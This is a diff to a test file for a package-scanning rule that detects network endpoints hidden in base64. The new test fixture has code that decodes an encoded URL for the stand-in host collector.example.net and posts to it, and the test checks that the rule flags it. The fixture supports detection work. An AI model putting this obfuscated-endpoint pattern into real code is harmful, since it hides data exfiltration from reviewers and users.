@@ -1,9 +1,12 @@
 from __future__ import annotations
 
+import base64
+
 from tests.analysis.builders import npm_tarball, run_rule, sdist
 from threatfeed.analysis import Engine
 from threatfeed.analysis.rules.correlation import (
     data_exfiltration_rule,
+    hidden_endpoint_rule,
     install_time_beacon_rule,
     install_time_download_rule,
     raw_ip_endpoint_rule,
@@ -92,3 +95,16 @@ def test_module_posting_to_a_public_address_is_flagged_but_not_in_tests(engine: 
     )
     assert engine.analyze(sdist({"tidy_strings/core.py": code})).flagged
     assert not engine.analyze(sdist({"tests/test_core.py": code})).flagged
+
+
+def test_sending_to_a_url_spelled_in_base64(engine: Engine) -> None:
+    """``aHR0cHM6Ly`` is ``https://`` in base64: the address is hidden from reviewers."""
+    hidden = base64.b64encode(b"https://collector.example.net/up").decode()
+    code = f"import base64, requests\nrequests.post(base64.b64decode('{hidden}').decode())\n"
+    evidence = run_rule(engine, hidden_endpoint_rule, sdist({"tidy_strings/up.py": code}))
+    assert {"hidden_url", "network"} <= set(evidence[0]["capabilities"])
+    assert engine.analyze(sdist({"tidy_strings/up.py": code})).flagged
+    plain = "import requests\nrequests.post('https://collector.example.net/up')\n"
+    assert run_rule(engine, hidden_endpoint_rule, sdist({"tidy_strings/up.py": plain})) is None
+    stored = f"FIXTURE = '{hidden}'\n"
+    assert run_rule(engine, hidden_endpoint_rule, sdist({"tidy_strings/up.py": stored})) is None
